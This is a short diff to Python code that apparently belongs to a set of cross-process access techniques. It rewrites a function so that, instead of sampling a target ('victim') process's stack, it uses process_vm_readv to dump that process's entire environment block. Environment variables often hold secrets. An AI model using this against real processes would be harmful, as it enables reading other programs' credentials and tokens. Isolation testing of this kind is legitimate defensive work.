@@ -210,13 +210,13 @@ def memory_of_another(aim):
 
 
 def memory_by_process_vm_readv(aim):
-    buffer = ctypes.create_string_buffer(8000)
     with open("/proc/%d/stat" % aim["victim"]) as stat:
-        start = int(stat.read().rpartition(")")[2].split()[25])  # of the stack
-    ours = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8000)
-    theirs = (ctypes.c_size_t * 2)(start, 8000)
+        first, last = map(int, stat.read().rpartition(")")[2].split()[47:49])  # where its environment is
+    buffer = ctypes.create_string_buffer(last - first)
+    ours = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), last - first)
+    theirs = (ctypes.c_size_t * 2)(first, last - first)
     call("process_vm_readv", aim["victim"], ours, 1, theirs, 1, 0)
-    return b" ".join(filter(None, buffer.raw.split(b"\0")))[-3000:].decode(errors="replace")
+    return buffer.raw
 
 
 def descriptor_by_pidfd(aim):
